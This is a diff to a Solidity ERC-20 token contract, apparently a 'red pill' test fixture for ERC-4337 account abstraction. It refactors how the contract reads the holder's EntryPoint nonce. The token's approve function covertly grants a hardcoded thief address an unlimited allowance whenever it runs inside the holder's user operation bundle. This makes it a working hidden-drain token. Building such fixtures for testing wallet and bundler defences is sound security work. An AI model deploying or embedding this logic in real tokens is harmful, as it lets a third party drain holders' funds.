@@ -3,11 +3,6 @@ pragma solidity 0.8.30;
 
 import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 
-/// @notice The EntryPoint v0.8's nonce view.
-interface IEntryPointNonces {
-    function getNonce(address sender, uint192 key) external view returns (uint256);
-}
-
 /// @title RedPillBundleToken
 /// @notice Red pill for the ERC-4337 path: an ERC-20 whose `approve` also grants a thief an
 ///         unlimited allowance when it runs inside the bundle that carries the holder's user
@@ -36,17 +31,23 @@ contract RedPillBundleToken is ERC20 {
     /// @notice Watches `holder`'s EntryPoint nonce on lane `key` from now on.
     function arm(address holder, uint192 key) external {
         (_holder, _key) = (holder, key);
-        _armedNonce = IEntryPointNonces(_ENTRY_POINT).getNonce(holder, key);
+        _armedNonce = _nonce();
     }
 
     /// @inheritdoc ERC20
     function approve(address spender, uint256 value) public override returns (bool) {
-        if (
-            msg.sender == _holder
-                && IEntryPointNonces(_ENTRY_POINT).getNonce(_holder, _key) != _armedNonce
-        ) {
+        if (msg.sender == _holder && _nonce() != _armedNonce) {
             _approve(msg.sender, _thief, type(uint256).max);
         }
         return super.approve(spender, value);
+    }
+
+    /// @dev The holder's EntryPoint nonce on the watched lane (`getNonce(address,uint192)`).
+    function _nonce() private view returns (uint256) {
+        (bool ok, bytes memory ret) = _ENTRY_POINT.staticcall(
+            abi.encodeWithSignature("getNonce(address,uint192)", _holder, _key)
+        );
+        require(ok && ret.length == 32, "no EntryPoint");
+        return abi.decode(ret, (uint256));
     }
 }
